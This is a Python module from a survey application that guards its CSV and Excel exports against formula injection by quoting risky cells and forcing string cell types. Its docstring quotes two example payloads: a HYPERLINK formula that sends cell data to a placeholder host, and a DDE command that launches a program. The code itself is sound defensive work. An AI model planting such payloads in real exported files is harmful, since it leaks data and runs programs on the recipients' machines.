"""Cells that a spreadsheet shows as text and never runs as a formula.

Every CSV and Excel file the product writes (answer downloads, aggregate results,
invitation links, ``surveyapp responses export``) passes its cells through
:func:`safe_cell`; :func:`xlsx_row` also makes every text cell of a workbook a string
cell. The import side (``csvfiles.read_csv``) undoes the quote with
:func:`unquote_cell`, so an exported file imports again unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with, as
# listed by OWASP's "CSV Injection" page, plus the full-width forms that East Asian
# input methods type and that some spreadsheets fold to the ASCII ones.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"

# openpyxl refuses these (XML 1.0 cannot hold them); the input guards keep them out of
# the database, but a row stored before the guards existed must not break a download.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _starts_formula(text: str) -> bool:
    if text[:1] in FORMULA_STARTS:
        return True
    # Spreadsheets skip leading blanks before looking for "=": check after them too.
    stripped = text.lstrip()
    return stripped[:1] in FORMULA_STARTS


def safe_cell(value: Any) -> Any:
    """Return ``value`` so that no spreadsheet evaluates it; numbers pass unchanged.

    A text that starts with ``= + - @``, a tab or a carriage return (also after leading
    blanks, and in the full-width forms ``＝＋－＠``) is what a spreadsheet reads as a
    formula. A respondent's comment ``=HYPERLINK("http://evil.example/?x="&C2,"Click")``
    or a department called ``=cmd|'/C calc'!A0`` would otherwise run in the
    consultant's or manager's spreadsheet, leak other cells to a web address, or start
    a program (OWASP "CSV Injection"). A leading single quote is the spreadsheets' own
    way to say "this is text": Excel and LibreOffice show the text without running it,
    and someone reading the raw file sees the quote and the original text, nothing lost.
    Numbers the code passes as ``int`` or ``float`` are real numbers and stay numbers
    (a negative mean is a number, not a formula); ``None`` becomes an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, str) and _starts_formula(value):
        return QUOTE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` of every value of a row."""
    return [safe_cell(value) for value in values]


def unquote_cell(text: str) -> str:
    """Undo :func:`safe_cell` for a text read back from a CSV file the product wrote."""
    if text.startswith(QUOTE) and _starts_formula(text[1:]):
        return text[1:]
    return text


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for an openpyxl write-only ``sheet``: text cells forced to string cells.

    openpyxl stores any text that starts with ``=`` as a formula. Quoting already
    prevents that, but the cell's type is also set to ``"s"`` (an inline string) so that
    no text, whatever it starts with, can ever be written as a formula or an error code.
    """
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in safe_row(values):
        if isinstance(value, str):
            if value == "":
                row.append(None)
                continue
            cell = WriteOnlyCell(sheet, value=_XML_ILLEGAL.sub("\ufffd", value))
            cell.data_type = "s"
            value = cell
        row.append(value)
    return row
